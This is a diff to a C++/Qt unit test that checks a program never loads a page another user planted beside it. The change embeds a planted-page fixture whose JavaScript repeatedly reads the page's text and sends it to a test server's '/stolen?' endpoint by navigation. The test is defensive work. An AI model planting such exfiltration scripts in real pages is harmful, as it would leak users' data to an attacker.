@@ -45,7 +45,11 @@ TEST(ListHostPage, APageAnotherUserPlantedBesideTheProgramIsNeverLoaded)
     for (const char *name : {"tallowmere", "default.tmt", "nopic.gif"})
         ASSERT_TRUE(copyBeside(QString::fromLatin1(name), folder)) << name;
     const QString planted = folder + QStringLiteral("/blank.htm");
-    const QByteArray page = "<html><body><script>new Image().src = \"" + theirs.url("/planted") + "\";</script></body></html>";
+    // Its script outlives the list written into the page: it reads the list
+    // and sends it off as a web link, which the program opens.
+    const QByteArray page = "<html><body><script>setInterval(function () { location.href = \"" + theirs.url("/stolen?")
+                            + "\" + encodeURIComponent(document.body ? document.body.innerText : \"\"); }, 300);"
+                              "</script></body></html>";
     {
         QFile f(planted);
         ASSERT_TRUE(f.open(QIODevice::WriteOnly));
